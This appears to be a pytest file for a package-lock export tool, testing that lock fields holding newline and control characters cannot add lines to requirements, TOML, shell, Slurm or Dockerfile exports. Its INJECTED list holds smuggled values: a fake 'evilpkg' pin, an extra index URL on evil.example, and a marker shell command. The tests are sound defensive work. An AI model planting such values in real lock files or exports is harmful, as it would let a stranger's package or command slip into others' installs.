"""Every field of a lock, holding newlines and other control characters, through every export.

A lock is someone else's data: no value may add a line to what an export writes (a hash-pinned
requirement, an `--extra-index-url`, a `[[packages]]` table, a shell command). Each export either
refuses the lock (exit 2, one usage error) or writes it so that the value stays inside its line:
what the export installs is exactly what the clean lock's export installs."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from helpers import cli, json_out
from test_hostile import _target, _write_lock
from test_smoke_routes import _wheel

from fwsetup import records, tomlfile
from fwsetup.fleet import formats, lockfile

# Each line, if it reached a line of its own, would change what an export installs or runs.
INJECTED = [
    "evilpkg==6.6.6 --hash=sha256:" + "e" * 64,
    "--extra-index-url https://evil.example/simple",
    "[[packages]]",
    'name = "evilpkg"',
    "touch /tmp/fwsetup-export-PWNED",
]
# Joined by every character Python (and so most readers) ends a line at, and a few more controls.
PAYLOAD = (
    "x\n"
    + "\r".join(INJECTED[:2])
    + "\u2028"
    + "\x85".join(INJECTED[2:4])
    + "\x0b\x0c\x1c\x1d\x1e\x00"
    + INJECTED[4]
)


def _hostile(value: Any) -> Any:
    if isinstance(value, dict):
        return {"NOTE": PAYLOAD}
    if isinstance(value, list):
        return [PAYLOAD]
    return PAYLOAD


FIELDS = [f.name for f in records.fields(lockfile.LockTarget)]


@pytest.fixture(scope="module")
def clean(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, lockfile.LockTarget, dict[str, str]]:
    """A lock of one stub wheel from a local wheelhouse (so pylock resolves it with no index)."""
    base = tmp_path_factory.mktemp("export-fields")
    (base / "wheelhouse").mkdir()
    _wheel(base / "wheelhouse", "fwsetup-stub-export", {"fwsetup_stub_export/__init__.py": ""})
    digest = hashlib.sha256(next((base / "wheelhouse").glob("*.whl")).read_bytes()).hexdigest()
    target = _target(requirements=[f"fwsetup-stub-export==1.0 --hash=sha256:{digest}"])
    env = {"PIP_FIND_LINKS": str(base / "wheelhouse"), "PIP_NO_INDEX": "1"}
    return _write_lock(base / "clean.lock", target), target, env


def _export(lock: Path, fmt: str, env: dict[str, str]) -> tuple[int, str]:
    out = cli(
        "export",
        "--lock",
        str(lock),
        "--format",
        fmt,
        "--wheelhouse",
        "https://bundle.example/",
        "--json",
        env=env,
    )
    data = json_out(out)  # one JSON document, also for a refusal: never a traceback
    if out.returncode:
        assert out.returncode == 2 and data["error"]["code"] in ("usage", "not-lockable"), data
        return out.returncode, ""
    return 0, str(data["script"])


def _lines(fmt: str, text: str) -> list[str]:
    """The lines as the format's reader sees them: sh, Slurm and Docker end a line at a newline
    only; pip's requirements parser, TOML comments and YAML (1.1) at every line break Python knows
    (U+2028, NEL, form feed, …), which is the stricter test."""
    return text.split("\n") if fmt in ("shell", "slurm", "dockerfile") else text.splitlines()


def _requirements(text: str) -> list[str]:
    """What pip reads from a requirements file: every line that is not a comment."""
    return [line for line in text.splitlines() if line.strip() and not line.lstrip().startswith("#")]


@pytest.mark.parametrize("fmt", formats.ALL_FORMATS)
@pytest.mark.parametrize("field", [*FIELDS, "lock file name"])
def test_no_lock_field_adds_a_line_to_an_export(
    field: str, fmt: str, clean: tuple[Path, lockfile.LockTarget, dict[str, str]], tmp_path: Path
) -> None:
    clean_lock, target, env = clean
    if field == "lock file name":
        lock = tmp_path / f"x{PAYLOAD.replace(chr(0), '')}.lock".replace("/", "-")
        lock.write_bytes(clean_lock.read_bytes())
    else:
        lock = _write_lock(
            tmp_path / "hostile.lock", records.replace(target, **{field: _hostile(getattr(target, field))})
        )
    code, text = _export(lock, fmt, env)
    if code:
        return  # refused with one usage error
    _, expected = _export(clean_lock, fmt, env)
    ours = set(_lines(fmt, expected))  # a pylock has its own [[packages]] lines
    for line in _lines(fmt, text):
        added = line.lstrip().startswith(tuple(INJECTED)) and line not in ours
        assert not added, f"{field} added a line to {fmt}: {line!r}"
    if fmt == "requirements":
        assert _requirements(text) == _requirements(expected)
        assert len(text.splitlines()) == len(expected.splitlines())
    if fmt == "pylock":
        assert tomlfile.loads(text)["packages"] == tomlfile.loads(expected)["packages"]
        assert [ln for ln in text.splitlines() if not ln.startswith("#")] == [
            ln for ln in expected.splitlines() if not ln.startswith("#")
        ]


def test_pip_installs_only_what_the_lock_pins_from_a_hostile_locks_requirements(
    clean: tuple[Path, lockfile.LockTarget, dict[str, str]], tmp_path: Path
) -> None:
    """pip itself reads the exported file (a dry run): the one locked package, hash-checked."""
    _, target, env = clean
    hostile = records.replace(target, name=PAYLOAD, variant=PAYLOAD, framework=PAYLOAD, env={"NOTE": PAYLOAD})
    code, text = _export(_write_lock(tmp_path / "h.lock", hostile), "requirements", env)
    assert code == 0
    (tmp_path / "requirements.txt").write_text(text, encoding="utf-8")
    pip = [sys.executable, "-m", "pip", "install", "--dry-run", "--quiet", "--report", "-", "--no-index"]
    done = subprocess.run(
        [*pip, "--find-links", env["PIP_FIND_LINKS"], "-r", str(tmp_path / "requirements.txt")],
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, "PIP_CONFIG_FILE": os.devnull},
    )
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    assert [i["metadata"]["name"] for i in report["install"]] == ["fwsetup-stub-export"]
